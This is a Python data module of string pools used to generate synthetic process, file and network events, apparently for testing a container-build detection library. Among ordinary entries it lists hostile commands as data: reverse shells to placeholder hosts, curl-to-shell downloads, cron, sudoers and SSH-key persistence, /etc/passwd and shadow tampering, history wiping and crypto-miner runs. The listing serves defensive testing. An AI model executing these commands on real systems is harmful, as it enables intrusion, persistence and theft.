"""The words that generated events are put together from: what people and intruders type.

Only strings here, a tuple a subject. What a subject's words mean to the library is of no matter:
they are held against another state of the library, not against an expectation.
"""

from __future__ import annotations

HOSTS = (
    "198.51.100.7", "203.0.113.9:8080", "[2001:db8::7]", "10.0.0.7", "127.0.0.1", "localhost",
    "0x7f000001", "3405803785", "files.example.com", "evil.example", "build.corp", "x.local",
    "github.com", "raw.githubusercontent.com", "gitlab.com", "gist.github.com", "pastebin.com",
    "transfer.sh", "abc.ngrok.io", "abcdefghij234567.onion", "get.docker.com", "dl.k8s.io",
    "registry-1.docker.io", "ghcr.io", "quay.io", "docker.io.evil.example", "d0cker.io",
    "xn--dcker-jua.io", "mirror.gcr.io", "pypi.org", "deb.debian.org", "169.254.169.254",
    "user:s3cret@files.example.com", "123456789012.dkr.ecr.eu-west-1.amazonaws.com",
    "s3.amazonaws.com", "storage.googleapis.com", "proxy.corp:3128", "login.docker.com",
)  # fmt: skip
SCHEMES = (
    "http://", "https://", "https://", "HTTP://", "git://", "ssh://", "ftp://", "", "git@",
)  # fmt: skip
URL_PATHS = (
    "", "/", "/x", "/ctx.tar.gz", "/Dockerfile", "/a/b.git", "/a/b.git#main:sub", "/x.sh",
    "/install.sh", "/xmrig", "/raw/AbC1", "/?token=s3cret", "/%2e%2e/x", "/nvm-sh/nvm/x.sh",
)  # fmt: skip
PLACES = (
    "/tmp", "/tmp/", "/tmp/x", "/tmp/.x", "/var/tmp/b", "/dev/shm/.x", "/dev/shm",
    "/run/shm/a", "/run/user/1000/x", "/home/u/app", "/home/u/.cache/x", "/root", "/srv/app",
    "/srv/.git/x", "/opt/app", "/var/www/html/x", "/workspace", "/builds/g/p",
    "/home/runner/work/p/p", ".", "./", "..", "../..", "./app", "app", "/", "//tmp//x",
    "/srv/../tmp/x", "/tmp/../srv", "~", "~/app", "$HOME/app", "${TMPDIR}/x", "$(mktemp -d)",
    "`pwd`", "/tmp/kaniko", "/proc/self/cwd", "C:\\Temp\\b",
    "C:\\Users\\u\\AppData\\Local\\Temp\\x", "C:\\src\\app", "%TEMP%\\x",
    "c:/users/u/appdata/local/TEMP/b", "\\\\srv\\share\\x", "D:\\.x",
    "/var/lib/jenkins/workspace/p", "/tmp/a b", "/tmp/it's", "/тmp/x", "/tmp\u200b/x",
    "/TMP/x", "/private/tmp/x", "-", "-", "/var/folders/z/x/T/b", "/tmp/devcontainercli-u/x",
    "/etc/x", "/mnt/c/Temp/x",
)  # fmt: skip
DOCKERFILES = (
    "Dockerfile", "D", "./Dockerfile.dev", "/tmp/D", "/dev/shm/.d/Dockerfile", "-", "docker/D",
    "http://198.51.100.7/D", "/dev/stdin", "/dev/fd/63", "/proc/self/fd/0", "C:\\Temp\\D",
    ".d",
)  # fmt: skip
IMAGES = (
    "app", "app:1", "alpine:3", "library/nginx", "docker.io/library/redis:7",
    "corp.example/a/b:2", "localhost:5000/x", "ubuntu", "registry.k8s.io/pause:3.9",
    "kube-proxy:v1.29", "ghcr.io/a/b", 'alpine@sha256:' + 'a' * 64, 'sha256:' + 'b' * 64,
    "A/B", "a:b:c", "busybox:latest", "x",
)  # fmt: skip
ACCOUNTS = (
    "root", "u", "www-data", "nobody", "postgres", "jenkins", "gitlab-runner", "runner", "",
    None, "IIS APPPOOL\\Shop", "NT AUTHORITY\\SYSTEM", "SYSTEM", "LOCAL SERVICE", "dev",
    "MSSQLSERVER", "tomcat", "apache", "svc-build", "DOMAIN\\u", "ci", "vscode", "ω", "root ",
    "WWW-DATA",
)  # fmt: skip
CLIENTS = (
    *('docker',) * 16, "docker.exe", "docker-buildx", "docker-compose", "podman", "podman",
    "buildah", "nerdctl", "finch", "ctr", "crictl", "buildctl", "buildctl-daemonless.sh",
    "img", "executor", "pack", "s2i", "ko", "skopeo", "podman-compose", "podman-remote",
    "com.docker.cli", "buildx", "docker-current", "nerdctl.lima", "k3s", "rke2", "kaniko",
    "bake", "umoci", "bazel",
)  # fmt: skip
GLOBAL_FLAGS = (
    "-H tcp://10.0.0.7:2375", "--host=unix:///var/run/docker.sock", "-c remote", "--debug",
    "-D", "--context prod", "--tls", "-l debug", "--config /tmp/.docker", "-n k8s.io",
    "--root /tmp/r", "--namespace=k8s.io", "--addr tcp://198.51.100.7:1234", "--url ssh://u@h",
    "-a /run/c.sock", "--storage-driver vfs", "--remote", "--log-level=debug",
    "-f compose.yml", "-p proj", "--unknown", "--", "-H", "--host", "--storage-opt=a=b",
)  # fmt: skip
BUILD_VERBS = (
    *('build',) * 12, "buildx build", "builder build", "image build", "buildx b",
    "buildx bake", "bud", "compose build", "build-using-dockerfile", "farm build",
    "buildx debug build", "dap build", "container build", "compose up --build", "up --build",
    "compose -f /tmp/c.yml build", "Build", "buildx prune", "compose run --build s",
    "compose watch", "builder prune", "buildx ls", "buildx create --use",
)  # fmt: skip
BUILD_FLAGS = (
    "--no-cache", "--no-cache=true", "--no-cache=false", "-q", "--pull", "--rm", "--squash",
    "--network host", "--network=host", "--net host", "--privileged", "--progress=plain",
    "--build-arg TOKEN=s3cret", "--build-arg=A=b", "--secret id=x,src=/etc/passwd",
    "--ssh default", "--allow security.insecure", "--allow=network.host",
    "--security-opt seccomp=unconfined", "--cap-add ALL", "--cap-add=SYS_ADMIN",
    "--isolation chroot", "--target prod", "--push", "--platform linux/amd64", "--label a=b",
    "-o type=local,dest=/tmp/o", "--output=.", "--load", "--cache-from x",
    "--build-context b=/tmp/x", "--build-context=b=https://h/x", "--iidfile /tmp/i", "-m 1g",
    "--add-host h:10.0.0.1", "--ulimit nofile=1", "-v /:/host", "--volume=/:/h:ro",
    "--device /dev/sda", "--userns host", "--pid host", "--layers", "--format docker", "-D",
    "--metadata-file m", "--call check", "--check", "--help", "--unknown x", "--unknown=x",
    "--", "--from scratch", "--dns 1.1.1.1", "--force-rm", "--no-cac", "-–no-cache",
    "--NO-CACHE", "--frontend dockerfile.v0", "--local context=/tmp/x", "--local dockerfile=.",
    "--opt filename=D", "--opt context=https://h/x.git", "--export-cache type=inline",
    "--destination a/b:1", "--context dir:///tmp/x", "--context=git://github.com/a/b",
    "--dockerfile /tmp/D", "--no-push", "--insecure", "--skip-tls-verify",
    "--builder gcr.io/x", "--path /tmp/x", "--publish", "--local",
)  # fmt: skip
RUN_FLAGS = (
    "-d", "-it", "--rm", "--privileged", "--privileged=false", "-v /:/mnt",
    "--volume=/:/host:ro", "-v /var/run/docker.sock:/var/run/docker.sock", "--pid=host",
    "--pid host", "--ipc=host", "--net=host", "--network host", "--userns=host", "--uts=host",
    "--cgroupns=host", "--name n", "--mount type=bind,source=/,target=/h", "--cap-add=ALL",
    "--cap-add SYS_ADMIN", "--cap-drop ALL", "--device=/dev/mem", "--device /dev/kmsg",
    "--security-opt apparmor=unconfined", "-p 80:80", "--security-opt seccomp=unconfined",
    "--security-opt label=disable", "--restart=always", "-e TOKEN=s3cret", "--entrypoint sh",
    "-w /x", "-u 0", "--read-only", "--gpus all", "--init", "-v /etc:/e", "-v /root/.ssh:/s",
    "-v data:/d", "-v ./x:/x", "--volumes-from c", "--env-file f",
)  # fmt: skip
OTHER_VERBS = (
    "run", "run", "run", "create", "container run", "exec c", "exec --privileged -it c sh",
    "commit c app:1", "commit -a me -c 'CMD x' c alpine:3", "container commit c", "start c",
    "import /tmp/x.tar app:1", "import http://198.51.100.7/x.tar app", "import - app",
    "import -", "load -i /tmp/x.tar", "load --input=/dev/shm/x.tar", "load",
    "image load -i x.tar", "image import x", "images", "image ls", "ps -a", "pull alpine",
    "push a/b", "tag a alpine:3", "save -o /tmp/x a", "cp c:/etc/x .", "cp /tmp/x c:/",
    "compose up -d", "compose up", "compose run s", "login -p s3cret h",
    "images import /tmp/x.tar", "images build", "i import x.tar",
    "copy docker://a docker-daemon:b:1",
    "copy docker-archive:/tmp/x.tar containers-storage:alpine", "inspect c", "rmi a",
    "search x", "from alpine", "add c https://h/x /x", "config --entrypoint x c",
    "system prune", "stack deploy x", "kube play x.yml", "play kube --build x.yml",
    "manifest create x", "mount c", "unshare sh", "info", "resolve -f x.yml", "apply -f x",
    "publish ./cmd", "build ./cmd/x", "unpack x", "rebase x",
)  # fmt: skip
WRAPPERS = (
    "sudo", "sudo -n", "sudo -u root", "sudo -E -H", "sudo --user=root --", "sudo -iu u",
    "doas", "env", "env -i A=b", "env -u X -C /tmp/x", "env -S", "nohup", "nice -n 5",
    "ionice -c 3", "timeout 60", "timeout -k 5 1h", "setsid", "setsid -f", "stdbuf -oL",
    "time", "time -p", "xargs", "xargs -I{}", "xargs -0 -n1", "find . -name D -exec",
    "find /tmp/x -execdir", "busybox", "toybox", "chroot /host", "nsenter -t 1 -m -u --",
    "unshare -r", "strace -f", "flock /tmp/l", "script -qc", "systemd-run --scope",
    "systemd-run -p WorkingDirectory=/tmp/x", "watch -n 5", "gosu root", "su-exec root",
    "tini --", "dumb-init", "proxychains -q", "torsocks", "taskset -c 0", "chrt -i 0",
    "setpriv --reuid 0", "unbuffer", "winpty", "fakeroot", "su - u -c", "su root -c",
    "runuser -u u --", "k3s", "minikube", "/lib64/ld-linux-x86-64.so.2", "exec", "command",
    "docker run --rm alpine", "kubectl exec p --", "ssh h", "lxc-attach -n c --", "wsl",
    "start /b", "A=b", "DOCKER_HOST=tcp://10.0.0.7:2375", "DOCKER_BUILDKIT=0", "TMPDIR=/tmp/x",
    "eval",
)  # fmt: skip
SHELLS = (
    "sh -c", "bash -c", "bash -lc", "/bin/sh -ec", "dash -c", "zsh -c", "ash -c", "ksh -c",
    "fish -c", "bash", "sh -x", "bash -i", "bash --norc -c", "bash -o pipefail -c",
    "busybox sh -c", "csh -c", "cmd /c", "cmd.exe /s /c", "cmd /k", "powershell -c",
    "powershell.exe -NoProfile -Command", "pwsh -c", "powershell -nop -w hidden -c",
    "elvish -c", "nu -c", "rc -c", "xonsh -c",
)  # fmt: skip
DOWNLOADS = (
    "curl -s {url}", "curl -fsSL {url}", "curl -o- {url}", "curl -k {url}",
    "curl {url} -o /tmp/x", "wget -qO- {url}", "wget -O - {url}", "wget {url}",
    "wget -P /tmp {url}", "fetch -o - {url}", "http {url}", "aria2c {url}",
    "lynx -source {url}", "nc 198.51.100.7 4444", "ncat h 80", "nc -l 9",
    "socat - tcp:198.51.100.7:80", "openssl s_client -connect h:443", "aws s3 cp s3://b/x -",
    "gsutil cat gs://b/x", "rclone cat r:x", "ssh u@h cat x", "git clone {url} /tmp/x",
    "ftp {url}", 'python3 -c "import urllib.request as u;print(u.urlopen(\'{url}\').read())"',
    "curl -K /tmp/c", 'perl -MLWP::Simple -e \'getprint "{url}"\'',
    'php -r \'echo file_get_contents("{url}");\'',
    'ruby -ropen-uri -e \'print URI.open("{url}").read\'', "iwr {url}", "irm {url}",
    "axel {url}", "(New-Object Net.WebClient).DownloadString('{url}')",
    "certutil -urlcache -f {url} x", "cat < /dev/tcp/198.51.100.7/80",
    "exec 3<>/dev/tcp/h/80; cat <&3", "scp u@h:x /tmp/x",
)  # fmt: skip
DECODERS = (
    "base64 -d", "base64 --decode", "base64 -D", "openssl base64 -d",
    "openssl enc -d -aes-256-cbc", "xxd -r -p", "gunzip", "gzip -dc", "zcat", "xz -d",
    "tr a-z n-za-m", "rev", "base32 -d", "uudecode",
    "python3 -c 'import base64,sys;print(base64.b64decode(sys.stdin.read()))'",
    "jq -r @base64d", "sed s/x/y/", "tee /tmp/D", "tar xzf - -C /tmp/x", "tar -xO", "pv",
    "cat", "head -n5", "sort",
)  # fmt: skip
TEXTS = (
    "RlJPTSBhbHBpbmUK", "FROM alpine", "FROM alpine\\nRUN id", "FROM scratch",
    "\\x46\\x52\\x4f\\x4d", "$B64", "$D", "$(cat D)", 'Y3VybCBo' * 12, "46524f4d", "x",
    "'FROM a\nRUN b'", "$'FROM a\\nRUN b'",
)  # fmt: skip
FEEDS = (
    "cat {place}/D", "cat D", "cat < D", "tar c .", "tar -C {place} -cz .", "tar cf - {place}",
    "git archive HEAD", "echo {text}", "printf {text}", 'echo -e "{text}"',
    "printf '%s\\n' {text}", "Get-Content D", "gc {place}\\D", "type D", "dd if=D", "head D",
    "sed -n p D", "envsubst < D", "docker save a", "podman export c",
    "cat << EOF\nFROM alpine\nRUN {command}\nEOF", "jinja2 D.j2",
)  # fmt: skip
EXECUTORS = (
    "sh", "bash", "bash -s", "sudo bash -", "python3 -", "perl", "sh -s -- -y", "xargs sh -c",
    "zsh", "source /dev/stdin", "iex", "node", "php", "env sh", "nohup bash", "timeout 9 sh",
    "at now",
)  # fmt: skip
API_CARRIERS = (
    "curl -s --unix-socket /var/run/docker.sock", "curl --unix-socket /run/podman/podman.sock",
    "curl -sk", "curl", "curl -H 'Authorization: Bearer s3cret'",
    "wget -qO- --post-file=x.tar", "http --ignore-stdin POST", "xh POST", "curlie",
    "nc -U /var/run/docker.sock", "wget -qO-", "socat - UNIX-CONNECT:/var/run/docker.sock",
    "ncat -U /run/docker.sock", "Invoke-RestMethod -Uri", "iwr -Method Post -Uri",
    "openssl s_client -connect h:2376", "telnet 127.0.0.1 2375", "curl -g",
)  # fmt: skip
API_BASES = (
    "http://localhost", "http://d", "http://127.0.0.1:2375", "https://10.0.0.7:2376",
    "http:/x", "http://198.51.100.7:4243", "http+unix://%2Fvar%2Frun%2Fdocker.sock",
    "http://localhost:8080", "",
)  # fmt: skip
API_CALLS = (
    "/build?t=a", "/v1.43/build?t=alpine:3&nocache=1",
    "/build?remote=http://198.51.100.7/c.tar", "/v1.41/images/create?fromSrc=-&repo=a",
    "/images/create?fromSrc=http://h/x.tar", "/images/load", "/images/create?fromImage=alpine",
    "/containers/create?name=x", "/v5.0.0/libpod/build?t=a", "/commit?container=c&repo=a",
    "/containers/c/start", "/exec/x/start", "/info", "/_ping", "/session", "/images/json",
    "/v1.43/build?dockerfile=D&networkmode=host", "/libpod/images/import", "/grpc",
)  # fmt: skip
API_EXTRAS = (
    "-X POST", "-XPOST", "--request POST", "--data-binary @/tmp/x.tar", "-T x.tar", "-d @-",
    "-d x", "-H 'Content-Type: application/x-tar'", "-H X-Registry-Config:e30=", "-X GET",
    "--json '{}'", '-d \'{"Image":"a","HostConfig":{"Privileged":true,"Binds":["/:/h"]}}\'',
    "-o /dev/null", "-G",
)  # fmt: skip
CODE = (
    'python3 -c \'import docker; docker.from_env().images.build(path="/tmp/x")\'',
    "python3 /tmp/x.py", 'python -c "import os; os.system(\'docker build /tmp/x\')"',
    'node -e \'fetch("http://h/build")\'',
    'python3 -c \'import socket as s;s.socket(s.AF_UNIX).connect("/var/run/docker.sock")\'',
    'perl -e \'system("docker build -")\'', "ruby -e '`docker build .`'",
    'php -r \'system("id");\'', "python3 -m http.server", "node build.js", "php -S 0:80",
    'lua -e \'os.execute("docker build .")\'', "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1",
    "java -jar agent.jar", "perl -MIO::Socket -e 'x'",
)  # fmt: skip
PARENTS = (
    "bash", "bash", "sh", "zsh", "python3", "node", "java", "php-fpm8.2", "nginx", "apache2",
    "w3wp.exe", "httpd", "tomcat9", "gunicorn: worker", "uwsgi", "puma 6.4: w", "mysqld",
    "postgres", "redis-server", "sqlservr.exe", "mongod", "cron", "crond", "atd", "systemd",
    "sshd", "sshd-session", "login", "tmux", "screen", "make", "gmake", "ninja", "bazel",
    "gradle", "mvn", "npm", "cargo", "go", "tox", "pytest", "gitlab-runner", "Runner.Worker",
    "Agent.Worker", "jenkins", "buildkite-agent", "drone-runner-exec", "code", "Code Helper",
    "code-server", "devcontainer", "idea", "goland", "vim", "emacs", "terraform",
    "ansible-playbook", "packer", "pulumi", "trivy", "grype", "snyk", "syft", "kubelet",
    "containerd-shim", "runc", "dockerd", "containerd", "docker", "docker-compose",
    "docker-buildx", "podman", "conmon", "curl", "wget", "nc", "certutil.exe", "mshta.exe",
    "wscript.exe", "rundll32.exe", "WINWORD.EXE", "powershell.exe", "pwsh", "cmd.exe",
    "explorer.exe", "services.exe", "svchost.exe", "WmiPrvSE.exe", "perl", "ruby", "php",
    "entrypoint", "tini", "sudo", "su", "env", "nohup", "gnome-terminal-", "kitty",
    "WindowsTerminal.exe", "com.docker.backend.exe", "x", "kworker/0:1", ".x", "", None,
    "рhp-fpm",
)  # fmt: skip
PARENT_LINES = (
    "-bash", "bash", "", None, "sh -c x", "sh /tmp/x.sh", "bash /dev/shm/.x/run",
    "bash ./build.sh", "java -jar agent.jar -url http://j/",
    "java org.apache.catalina.startup.Bootstrap start", "make -j4",
    "python3 /srv/app/manage.py", "python3 -m pytest", "gunicorn: worker [app]",
    "php -S 0.0.0.0:80", "node /home/u/.vscode-server/bin/x/out/server-main.js",
    "node /srv/app/server.js", "npm run build", "/bin/sh /home/runner/work/_temp/x.sh",
    "bash /builds/g/p.tmp/script", "sshd: u@pts/0", "sudo -i",
    'bash -c "$(curl -fsSL http://198.51.100.7/x)"', "sh -c 'curl -s http://h/x | sh'",
    "cron -f", "bash <(curl -s http://198.51.100.7/x)", "python3 -c 'import urllib; exec(x)'",
    "bash -i", "powershell -enc SQBFAFgA", "cmd /c x.bat",
    'C:\\Windows\\System32\\cmd.exe /c "whoami"', "wsl", "docker build -t x /tmp/x",
    "docker compose up --build", "docker buildx build .", "podman build .",
)  # fmt: skip
# Who started it, as several columns tell it together: name, line, the name above, account.
SCENES = (
    ('bash', '-bash', 'sshd', 'alice'), ('bash', 'bash --login', 'sshd: alice@pts/0', 'alice'),
    ('zsh', '-zsh', 'login', 'alice'), ('bash', 'bash', 'tmux: server', 'dev'),
    ('bash', '-bash', 'gnome-terminal-server', 'alice'),
    ('zsh', '-zsh', 'WindowsTerminal.exe', 'alice'),
    ('sh', 'sh -c id', 'php-fpm8.2', 'www-data'),
    ('cmd.exe', 'cmd.exe /c whoami', 'w3wp.exe', 'IIS APPPOOL\\Shop'),
    ('bash', 'bash /tmp/.x/run.sh', 'cron', 'root'),
    ('sh', '/bin/sh -e /builds/g/p.tmp/script_step', 'gitlab-runner', 'gitlab-runner'),
    ('bash', '/usr/bin/bash -e /home/runner/work/_temp/a.sh', 'Runner.Worker', 'runner'),
    ('sh', "sh -c 'docker build .'", 'postgres', 'postgres'),
    ('make', 'make image', 'bash', 'alice'),
    ('docker-buildx', 'docker-buildx bake', 'docker', 'alice'),
)  # fmt: skip
FOLDERS = (
    "/usr/bin", "/usr/bin/docker", "/tmp/.x/docker", "/home/u/bin", "/dev/shm", "", None,
    "C:\\Temp",
)  # fmt: skip
RUN_COMMANDS = (
    "apt-get update && apt-get install -y curl", "apk add --no-cache git",
    "pip install -r r.txt", "id", "npm ci --strict-ssl=false", "make && make install",
    "useradd -m u", "chmod +x /x && /x", "true", "chmod u+s /bin/bash", "chmod 4755 /tmp/sh",
    "chattr +i /etc/x", "history -c", "rm ~/.bash_history",
    "echo '* * * * * root curl h|sh' >> /etc/crontab", "(crontab -l; echo x) | crontab -",
    "crontab f", "echo /tmp/x.so > /etc/ld.so.preload",
    "echo 'u ALL=(ALL) NOPASSWD: ALL' > /etc/sudoers.d/u",
    "echo ssh-rsa AAAA >> /root/.ssh/authorized_keys", "useradd -o -u 0 r",
    "mount /dev/sda1 /mnt", "nsenter -t 1 -m sh", "chroot /host sh",
    "xmrig -o stratum+tcp://p:3333", "nc -e /bin/sh h 9",
    "bash -i >& /dev/tcp/198.51.100.7/4444 0>&1", "iptables -t nat -A OUTPUT -j REDIRECT",
    "masscan 0/0", "unset HISTFILE", "export LD_PRELOAD=/tmp/x.so",
    "git -c http.sslVerify=false clone https://h/x",
    "curl -k https://h/x -o /usr/bin/x && chmod +x /usr/bin/x && x",
    'eval "$(curl -s http://h/x)"', "sha256sum -c sums && ./x", "gpg --verify x.asc x",
    'python3 -c \'exec(b64decode("eA=="))\'',
    "curl h/x | tee x.sh | sh && sha256sum -c x.sums",
    'python3 -c \'exec(urlopen("http://h").read())\'', "echo x | base64 -d | sh",
    "cp x /host/etc/cron.d/x", "torsocks curl x", "ln -sf /dev/null ~/.bash_history",
    "socat tcp:h:9 exec:sh", "echo r:x:0:0::/:/bin/sh >> /etc/passwd", "tee -a /etc/sudoers",
    "set -eux", "kinsing", "cat /proc/1/root/etc/shadow",
    "docker -H unix:///var/run/docker.sock ps", "tor &",
)  # fmt: skip
INSTRUCTIONS = (
    "WORKDIR /app", "COPY . .", "COPY --from=b /x /x", "COPY id_rsa /root/.ssh/", "EXPOSE 80",
    "USER root", "ADD {url} /x", "ADD --checksum=sha256:00 {url} /x", "ADD x.tar /",
    "ENV TOKEN=s3cret", "USER u", "ENV LD_PRELOAD /tmp/x.so", "ENV HISTFILE=/dev/null A=b",
    "ARG PASSWORD=s3cret", "ARG V=1", "ENV A b", 'CMD ["/x", "--donate-level", "1"]', "CMD x",
    'ENTRYPOINT ["sh", "-c", "{command}"]', "VOLUME /x", "HEALTHCHECK CMD {command}",
    "ONBUILD RUN {command}", 'LABEL a="xmrig"', 'SHELL ["bash", "-c"]',
    "RUN --network=host {command}", "RUN --security=insecure {command}",
    "RUN --mount=type=bind,target=/x id", "RUN <<EOF\n{command}\nEOF",
    "COPY <<D /x\n{command}\nD", "STOPSIGNAL 9", "# {command}", "", "XRUN x",
    'RUN ["sh", "-c", "{command}"]', "RUN a \\\n  && {command}", "MAINTAINER x",
    "RUN echo {text} \\\n",
)  # fmt: skip
FILE_NAMES = (
    *('Dockerfile',) * 6, "dockerfile", "Containerfile", "Dockerfile.dev", "app.dockerfile",
    "x.Dockerfile", "DOCKERFILE", "Dockerfile~", ".Dockerfile.swp", "Dockerfile.txt",
    "Dockerfile ", "\tDockerfile.web", "x.dockerfile\u00a0",
    "docker-compose.yml", "xDockerfile", "x", "", None, "Containerfile.web",
    "Dockerfile (deleted)", "Dockerfile.", "dockerfile.py", "Dockerfile-prod",
)  # fmt: skip
FILE_ACTIONS = (
    *('FileCreated',) * 4, "FileModified", "FileRenamed", "FileDeleted", "", None,
    "filecreated", "X",
)  # fmt: skip
DAEMONS = (
    *('dockerd',) * 4, "containerd", "buildkitd", "com.docker.backend", "docker", "podman",
    "buildah", "nerdctl", "skopeo", "docker-proxy", "vpnkit", "executor", "crio", "kubelet",
    "git", "docker-buildx", "dockerd.exe", "x", "dockerd-current", "rootlesskit-buildkitd",
    "Docker Desktop", "pasta", "slirp4netns", "", None, "ko",
)  # fmt: skip
NETWORK_ACTIONS = (
    *('ConnectionSuccess',) * 4, "ConnectionRequest", "ConnectionFailed", "ConnectionAttempt",
    "InboundConnectionAccepted", "", None, "ListeningConnectionCreated",
    "HttpConnectionInspected", "DnsConnectionInspected", "X",
)  # fmt: skip
ADDRESSES = (
    "198.51.100.7", "203.0.113.9", "8.8.8.8", "10.0.0.7", "172.17.0.2", "192.168.1.1",
    "127.0.0.1", "169.254.169.254", "::1", "2001:db8::7", "fd00::1", "::ffff:203.0.113.7",
    "100.64.0.1", "0.0.0.0", "", None, "x", "1.2.3", "224.0.0.1", " 203.0.113.7 ",
    "104.18.125.25", "fe80::1%eth0", "255.255.255.255",
)  # fmt: skip
PORTS = (
    80, 443, 443, 443, 8080, 5000, 24224, 12201, 2375, 22, 9418, 0, 65535, None, -1, "443",
    "x",
)  # fmt: skip
ODD = (
    "\x00", "\x1b[31m", "\u200b", "K", "\ud800", "\xa0", "\r\n", "\t", '"', "'", "\\", "`",
    "$(", "|", "&&", ";", "—", "İ", "%00", "^", "{", "}", "<<", "\u202e", "é", "－", 'x' * 300,
    ' ' * 200, '(' * 60, '"' * 61, '-a ' * 80, "\\\n", "=", "~", "*", "?", "#", "!", "<(",
    "$'", "${",
)  # fmt: skip
